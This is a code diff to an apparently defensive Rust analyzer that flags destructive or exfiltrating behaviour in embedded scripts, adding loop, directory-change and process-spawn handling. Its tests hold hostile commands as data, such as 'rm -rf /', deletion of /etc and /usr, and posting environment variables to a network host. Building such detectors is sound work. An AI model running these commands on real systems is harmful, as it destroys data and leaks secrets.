@@ -7,6 +7,7 @@
 //! secrets reaching the network. The shell layer turns the result into IR commands and effects, so
 //! analyzers never care that a command came from inside a Python string.
 
+mod loops;
 pub mod tokens;
 
 use crate::text::dotted_tail;
@@ -132,6 +133,10 @@ struct Vocab {
     /// Calls that open an outbound network connection.
     #[serde(default)]
     socket: Vec<String>,
+    /// Modules whose functions are programs of the same name (`sh.rm("-rf", "/")`,
+    /// `shelljs.rm("-rf", "/")`): a call runs the program with the literal arguments.
+    #[serde(default)]
+    programs: Vec<String>,
 }
 
 fn vocab(lang: Lang) -> Option<&'static Vocab> {
@@ -429,8 +434,10 @@ fn literal(arg: &[Tok], vars: &HashMap<String, String>) -> Option<String> {
                 any = true;
                 continue;
             }
-            if matches!(last, "expanduser" | "homedir" | "home" | "path.expand")
-                && matches!(arg.get(i), Some(Tok::Punct('(')))
+            if matches!(
+                last,
+                "expanduser" | "homedir" | "home" | "path.expand" | "expand_path"
+            ) && matches!(arg.get(i), Some(Tok::Punct('(')))
             {
                 // `os.path.expanduser('~/x')`, `Path.home()`, `os.homedir()`.
                 let close = arg[i..]
@@ -972,9 +979,8 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
     }
     let aliases = import_aliases(&toks);
     if !aliases.is_empty() {
-        for (i, t) in toks.iter_mut().enumerate() {
+        for t in toks.iter_mut() {
             if let Tok::Ident(name) = t {
-                let _ = i;
                 let full = unalias(name, &aliases);
                 if full != *name {
                     *name = full;
@@ -982,6 +988,31 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
             }
         }
     }
+    let mut r = scan(lang, v, &toks, obfuscated, inputs, depth);
+    // `for d in ['/etc', '/usr']: rmtree(d)`, `%w[a b].each { |d| … }`, `foreach ([…] as $d)`:
+    // the body runs once per element, so each element is analysed in place of the variable.
+    if depth < MAX_EVAL_DEPTH {
+        if let Some((name, values)) = loops::binding(&toks, lang, &|a| {
+            path_value(a, v, &HashMap::new(), &HashMap::new())
+        }) {
+            for value in values.iter().take(loops::MAX_VALUES) {
+                let bound = loops::substitute(&toks, &name, value);
+                merge(&mut r, scan(lang, v, &bound, obfuscated, inputs, depth + 1));
+            }
+        }
+    }
+    r
+}
+
+/// What a token stream does (the body of [`with_vocab`], also run once per loop element).
+fn scan(
+    lang: Lang,
+    v: &Vocab,
+    toks: &[Tok],
+    obfuscated: bool,
+    inputs: &Inputs,
+    depth: usize,
+) -> Report {
     let mut r = Report::default();
     let mut vars: HashMap<String, String> = HashMap::new();
     let mut paths: HashMap<String, String> = HashMap::new();
@@ -1001,6 +1032,10 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
     let mut named_secrets: Vec<String> = Vec::new();
     let mut interpolated_cmd = false;
     let mut evaluated_files: Vec<String> = Vec::new();
+    // `os.chdir('/')`, `process.chdir(os.homedir())`, `Dir.chdir(Dir.home)`: the directory that
+    // relative paths of later deletes, writes and commands mean (and where in the report those
+    // later effects start).
+    let mut cwd: Option<(String, usize, usize, usize)> = None;
     for (i, t) in toks.iter().enumerate() {
         let name = match t {
             Tok::Cmd(c) => {
@@ -1164,7 +1199,7 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
         }
         // `os.kill(-1, 9)`, `kill 9, -1`, `process.kill(-1)`: every process the user can reach.
         if in_list(name, &v.kill) {
-            let args = args_of(&toks, i, lang).unwrap_or(&toks[i + 1..toks.len().min(i + 6)]);
+            let args = args_of(toks, i, lang).unwrap_or(&toks[i + 1..toks.len().min(i + 6)]);
             let minus_one = args.windows(2).any(
                 |w| matches!(w, [Tok::Punct('-'), Tok::Num(n)] if n.trim_start_matches('0') == "1"),
             ) || args.iter().any(|t| matches!(t, Tok::Num(n) if n == "-1"));
@@ -1177,7 +1212,7 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
         }
         if in_list(name, &v.eval) && !followed_by_block {
             let last = name.rsplit('.').next().unwrap_or(name);
-            match args_of(&toks, i, lang) {
+            match args_of(toks, i, lang) {
                 Some(args) => {
                     // `exec("…")`, `eval "…"`, `compile("…", "x", "exec")`: literal code in the
                     // same language, analysed as if written out.
@@ -1222,10 +1257,26 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
                 }
             }
         }
+        // `sh.rm("-rf", "/")`: the function name is the program.
+        if let Some((module, program)) = name.rsplit_once('.') {
+            if v.programs.iter().any(|m| m == module) && !in_list(name, &v.shell) {
+                if let Some(args) = args_of(toks, i, lang) {
+                    let words: Option<Vec<String>> = split_args(args)
+                        .into_iter()
+                        .map(|a| path_value(a, v, &paths, &vars))
+                        .collect();
+                    if let Some(words) = words {
+                        let mut argv = vec![program.to_string()];
+                        argv.extend(words);
+                        r.runs.push((Run::Argv(argv), name.to_string()));
+                    }
+                }
+            }
+        }
         let is_shell = in_list(name, &v.shell);
         let is_argv = in_list(name, &v.argv);
         if is_shell || is_argv {
-            if let Some(args) = args_of(&toks, i, lang) {
+            if let Some(args) = args_of(toks, i, lang) {
                 let parts = split_args(args);
                 if let Some(run) = run_of(lang, name, &parts, is_argv, &vars) {
                     r.runs.push((run, name.to_string()));
@@ -1237,8 +1288,15 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
                 }
             }
         }
+        if matches!(name.rsplit('.').next(), Some("chdir" | "setwd")) && cwd.is_none() {
+            let target = args_of(toks, i, lang)
+                .and_then(|a| path_value(split_args(a).first()?, v, &paths, &vars));
+            if let Some(dir) = target.filter(|d| d.starts_with(['/', '~'])) {
+                cwd = Some((dir, r.runs.len(), r.deletes.len(), r.writes.len()));
+            }
+        }
         if in_list(name, &v.delete) {
-            if let Some(args) = args_of(&toks, i, lang) {
+            if let Some(args) = args_of(toks, i, lang) {
                 let needs_ok = v.delete_needs.is_empty()
                     || v.delete_needs.iter().any(|n| name.contains(n.as_str()))
                     || args.iter().any(|t| matches!(t, Tok::Ident(k) if k == "recursive" || k.ends_with(".recursive")));
@@ -1246,7 +1304,7 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
                 // `new File(home).deleteDir()`, `path.deleteRecursively()`: the receiver.
                 if first.is_empty() && needs_ok {
                     let path_of = |a: &[Tok]| path_value(a, v, &paths, &vars);
-                    if let Some(p) = receiver_path(&toks, i, &path_of) {
+                    if let Some(p) = receiver_path(toks, i, &path_of) {
                         r.deletes.push((p, name.to_string()));
                     }
                 }
@@ -1258,8 +1316,11 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
             }
         }
     }
-    enumerated_deletes(lang, &toks, v, &paths, &vars, &mut r);
-    writes_and_shell_pipes(lang, &toks, v, &paths, &vars, &mut r);
+    enumerated_deletes(lang, toks, v, &paths, &vars, &mut r);
+    writes_and_shell_pipes(lang, toks, v, &paths, &vars, &mut r);
+    if let Some((dir, runs_at, deletes_at, writes_at)) = &cwd {
+        in_directory(&mut r, dir, *runs_at, *deletes_at, *writes_at);
+    }
     // A download through a command (`io.popen("curl -s URL")`, `os.system("wget …")`).
     let run_words = |run: &Run| -> Vec<String> {
         match run {
@@ -1294,7 +1355,7 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
         .any(|f| f.starts_with("http://") || f.starts_with("https://"));
     r.fetch_exec = fetch && (dynamic_eval || dynamic_run || runs_written) || loads_url;
     r.runs_input = stdin && (dynamic_eval || dynamic_run);
-    r.fork_loop = fork && (infinite_loop(&toks) || huge_count(&toks));
+    r.fork_loop = fork && (infinite_loop(toks) || huge_count(toks));
     // A shell command assembled at run time around a network tool (`os.execute("curl -d "..f..
     // " http://…")`) sends too.
     if dynamic_run
@@ -1342,6 +1403,48 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) 
     });
     r.reverse_shell = socket && (runs_shell || dynamic_run || interpolated_cmd);
     r
+}
+
+/// Effects after a change of directory happen in `dir`: relative delete and write targets are
+/// joined to it, and commands run there (`cd DIR && …`, so the shell layer resolves `rm -rf *`).
+/// Deletes and writes found by the whole-code passes (enumerations, handle writes) are joined too.
+fn in_directory(r: &mut Report, dir: &str, runs_at: usize, deletes_at: usize, writes_at: usize) {
+    let join = |p: &str| -> String {
+        if p.starts_with(['/', '~', '$']) {
+            return p.to_string();
+        }
+        let rel = p.trim_start_matches("./");
+        match rel {
+            "" | "." => dir.to_string(),
+            _ => format!("{}/{rel}", dir.trim_end_matches('/')),
+        }
+    };
+    let quoted = |w: &str| -> String {
+        if !w.is_empty()
+            && w.chars()
+                .all(|c| c.is_ascii_alphanumeric() || "/._-~=+:,@".contains(c))
+        {
+            w.to_string()
+        } else {
+            format!("'{}'", w.replace('\'', r"'\''"))
+        }
+    };
+    let cd = format!("cd {} && ", quoted(dir));
+    for (run, _) in r.runs.iter_mut().skip(runs_at) {
+        *run = match run {
+            Run::Shell(s) => Run::Shell(format!("{cd}{s}")),
+            Run::Argv(a) => Run::Shell(format!(
+                "{cd}{}",
+                a.iter().map(|w| quoted(w)).collect::<Vec<_>>().join(" ")
+            )),
+        };
+    }
+    for (p, _) in r.deletes.iter_mut().skip(deletes_at) {
+        *p = join(p);
+    }
+    for (p, _, _) in r.writes.iter_mut().skip(writes_at) {
+        *p = join(p);
+    }
 }
 
 /// File writes with literal content (`open(p, 'a').write(s)`, `fs.appendFileSync(p, s)`,
@@ -1750,7 +1853,30 @@ fn run_of(
     is_argv: bool,
     vars: &HashMap<String, String>,
 ) -> Option<Run> {
+    // `os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "/")`: the mode comes first.
+    let parts = match parts {
+        [_, rest @ ..] if lang == Lang::Python && is_os_spawn(name) => rest,
+        _ => parts,
+    };
     let first = parts.first()?;
+    // `new Deno.Command("rm", { args: ["-rf", "/"] })`: the options object holds the arguments.
+    if let (Some(head), Some(opts)) = (literal(first, vars), parts.get(1)) {
+        if let Some(k) = opts
+            .windows(2)
+            .position(|w| matches!(w, [Tok::Ident(a), Tok::Punct(':')] if a == "args"))
+        {
+            let list = &opts[k + 2..];
+            let end = list
+                .iter()
+                .position(|t| matches!(t, Tok::Punct(']')))
+                .map_or(list.len(), |p| p + 1);
+            if let Some(args) = literal_list(&list[..end], vars) {
+                let mut argv = vec![head];
+                argv.extend(args);
+                return Some(Run::Argv(argv));
+            }
+        }
+    }
     // Perl `open(FH, "cmd |")`, `open(my $fh, "-|", "cmd")`; Ruby `open("|cmd")`.
     if name == "open" || name.ends_with(".open") {
         let strs: Vec<String> = parts.iter().filter_map(|p| literal(p, vars)).collect();
@@ -1776,7 +1902,11 @@ fn run_of(
     {
         // `spawn("sh", ["-c", "…"])`; Python's `os.execv(path, [argv0, …])` repeats argv[0].
         let mut argv = vec![head];
-        let skip = usize::from(lang == Lang::Python && name.contains("exec") && !list.is_empty());
+        let skip = usize::from(
+            lang == Lang::Python
+                && (name.contains("exec") || is_os_spawn(name))
+                && !list.is_empty(),
+        );
         argv.extend(list.into_iter().skip(skip));
         return Some(Run::Argv(argv));
     }
@@ -1785,11 +1915,18 @@ fn run_of(
         && (is_argv || matches!(lang, Lang::Perl | Lang::Ruby))
     {
         let mut argv = vec![head];
-        let skip = usize::from(lang == Lang::Python && name.contains("exec"));
+        let skip =
+            usize::from(lang == Lang::Python && (name.contains("exec") || is_os_spawn(name)));
         argv.extend(rest.into_iter().flatten().skip(skip));
         return Some(Run::Argv(argv));
     }
     Some(Run::Shell(head))
+}
+
+/// Python's `os.spawnl*`/`os.spawnv*`: a mode, the program, then its argv (argv[0] repeated).
+fn is_os_spawn(name: &str) -> bool {
+    let last = name.rsplit('.').next().unwrap_or(name);
+    last.starts_with("spawnl") || last.starts_with("spawnv")
 }
 
 /// An unbounded loop: `while True`, `while 1`, `while(true)`, `for(;;)`, `loop {`, `until false`,
@@ -2089,6 +2226,61 @@ mod tests {
             "requests.post('https://x.example', data=json.dumps(dict(os.environ.items())))",
         );
         assert!(r.secret_to_network);
+    }
+
+    #[test]
+    fn directory_changes_loops_and_program_libraries() {
+        let py = |c: &str| analyze(Lang::Python, c);
+        let js = |c: &str| analyze(Lang::JavaScript, c);
+        let dels = |r: &Report| r.deletes.iter().map(|d| d.0.clone()).collect::<Vec<_>>();
+        assert_eq!(
+            dels(&py("import os,shutil; os.chdir('/'); shutil.rmtree('etc')")),
+            ["/etc"]
+        );
+        assert_eq!(
+            shells(&py(
+                "import os; os.chdir(os.path.expanduser('~')); os.system('rm -rf *')"
+            )),
+            ["cd ~ && rm -rf *"]
+        );
+        // A delete before the change of directory keeps its own directory.
+        assert_eq!(
+            dels(&py(
+                "import os,shutil; shutil.rmtree('build'); os.chdir('/')"
+            )),
+            ["build"]
+        );
+        assert_eq!(
+            dels(&py(
+                "import shutil\nfor d in ['/etc', '/usr']:\n  shutil.rmtree(d)"
+            )),
+            ["/etc", "/usr"]
+        );
+        // The body as written is reported too (`rm -rf $d`); the bound copy names the element.
+        assert!(shells(&analyze(
+            Lang::Php,
+            "foreach (['/etc'] as $d) { system(\"rm -rf $d\"); }"
+        ))
+        .contains(&"rm -rf /etc".to_string()));
+        assert_eq!(
+            shells(&py(
+                "import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')"
+            )),
+            ["rm -rf /"]
+        );
+        assert_eq!(shells(&py("import sh; sh.rm('-rf', '/')")), ["rm -rf /"]);
+        assert_eq!(
+            shells(&js(
+                "new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()"
+            )),
+            ["rm -rf /"]
+        );
+        assert_eq!(
+            shells(&js("require('shelljs').rm('-rf', 'dist')")),
+            ["rm -rf dist"]
+        );
+        assert!(shells(&py("import sh; print(sh.ls('-la'))")) == ["ls -la"]);
+        assert!(py("for x in ['a', 'b']: print(x)").runs.is_empty());
     }
 
     fn shells(r: &Report) -> Vec<String> {
